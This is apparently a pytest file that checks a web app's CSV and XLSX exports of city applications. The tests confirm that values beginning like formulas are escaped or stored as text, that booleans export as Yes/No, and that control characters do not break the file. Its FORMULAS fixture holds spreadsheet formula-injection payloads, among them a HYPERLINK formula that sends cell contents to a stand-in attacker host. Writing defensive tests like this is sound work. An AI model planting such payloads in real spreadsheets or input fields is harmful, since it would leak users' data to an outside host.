"""Exported cells are data a spreadsheet shows, never formulas it runs; yes/no in words."""

import csv
import io

import openpyxl
import pytest

from tests.workspace.conftest import Urls, clusters, make_city_application  # noqa: F401 - fixtures

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A2, "Open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def exported(client, coordinator, make_city_application):  # noqa: F811
    client.force_login(coordinator)
    for formula in FORMULAS:
        make_city_application(
            city=formula, consent_public_listing=True, answers={"budget": {"label": "Budget", "value": formula}}
        )
    make_city_application(city="Plain", answers={"budget": {"label": "Budget", "value": "2m"}})

    def export(spreadsheet_format):
        response = client.get(Urls("city_applications").index(), {"export": spreadsheet_format})
        assert response.status_code == 200
        return b"".join(response.streaming_content)

    return export


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(exported):
    rows = csv_rows(exported("csv"))

    cities = {row["City"] for row in rows}
    assert cities == {f"'{formula}" for formula in FORMULAS} | {"Plain"}
    assert {row["Budget"] for row in rows} == cities - {"Plain"} | {"2m"}
    assert not [value for row in rows for value in row.values() if value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_xlsx_cells_keep_the_text_as_strings_not_formulas(exported):
    sheet = openpyxl.load_workbook(io.BytesIO(exported("xlsx"))).active
    header, *rows = list(sheet.iter_rows())
    city = [cell.value for cell in header].index("City")

    # XML stores a carriage return as a line feed: the text is otherwise kept exactly.
    assert {row[city].value for row in rows} == {*(f.replace("\r", "\n") for f in FORMULAS), "Plain"}
    assert {row[city].data_type for row in rows} == {"s"}


def test_booleans_are_exported_as_yes_or_no(exported):
    rows = csv_rows(exported("csv"))
    listed = "List my city in the member directory and on its map"

    assert {row[listed] for row in rows if row["City"] == "Plain"} == {"No"}
    assert {row[listed] for row in rows if row["City"] != "Plain"} == {"Yes"}


def test_control_characters_do_not_break_the_xlsx_export(exported, make_city_application):  # noqa: F811
    make_city_application(city="Bell\x07town")

    sheet = openpyxl.load_workbook(io.BytesIO(exported("xlsx"))).active

    assert "Bell\ufffdtown" in {value for row in sheet.iter_rows(values_only=True) for value in row}
